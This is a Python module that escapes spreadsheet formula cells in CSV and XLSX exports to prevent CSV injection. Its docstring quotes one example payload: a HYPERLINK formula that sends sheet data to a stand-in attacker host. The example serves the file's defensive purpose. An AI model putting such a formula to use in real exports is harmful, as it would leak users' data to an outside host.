"""Cells that leave the app in a spreadsheet are data, never formulas (OWASP's CSV-injection rule).

A text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets: an account named ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would
become a live link carrying the sheet's data away. In CSV such a cell gets a leading ``'`` (which the
spreadsheet shows as text, and which the importer takes off again, see ``unneutralise``); in XLSX every text
cell is written with the string type, so its text is exactly what the database holds. Numbers and dates stay
numbers and dates. The table downloads (``web/tables.py``) and the full export (``importer/export.py``) both
write through here.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from typing import Any

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """A CSV cell's value: text that a spreadsheet would run as a formula gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def unneutralise(value: str) -> str:
    """The inverse for the importer: ``'=x`` read back from one of our CSV files is ``=x`` again."""
    if value.startswith("'") and value[1:].startswith(FORMULA_START):
        return value[1:]
    return value


def _missing(value: Any) -> bool:
    return value is None or ((isinstance(value, float | pd.Timestamp) or value is pd.NaT) and bool(pd.isna(value)))


def _csv_value(value: Any) -> Any:
    if _missing(value):
        return ""
    if isinstance(value, pd.Timestamp):
        value = value.to_pydatetime()
    if isinstance(value, datetime) and value == datetime(value.year, value.month, value.day):
        return value.date().isoformat()
    if isinstance(value, datetime | date):
        return value.isoformat()
    return neutralise(value)


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """UTF-8 CSV with a BOM (Excel then shows Chinese), every text cell neutralised."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow([neutralise(h) for h in header])
    for row in rows:
        writer.writerow([_csv_value(v) for v in row])
    return buf.getvalue().encode("utf-8-sig")


def frame_csv(frame: pd.DataFrame) -> bytes:
    return csv_bytes([str(c) for c in frame.columns], frame.itertuples(index=False, name=None))


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """A write-only worksheet's row in which text is always text (``data_type`` "s"), never a formula."""
    from openpyxl.cell import WriteOnlyCell

    out = []
    for value in values:
        if _missing(value):
            value = None
        elif isinstance(value, pd.Timestamp):
            value = value.to_pydatetime()
        cell = WriteOnlyCell(sheet, value=value)
        if isinstance(value, str):
            cell.data_type = "s"
        out.append(cell)
    return out


def frame_xlsx(frame: pd.DataFrame, sheet_name: str = "data") -> bytes:
    """One sheet of the frame, header first; text cells as text (see ``xlsx_row``)."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet(sheet_name[:31])
    sheet.append(xlsx_row(sheet, [str(c) for c in frame.columns]))
    for row in frame.itertuples(index=False, name=None):
        sheet.append(xlsx_row(sheet, row))
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()
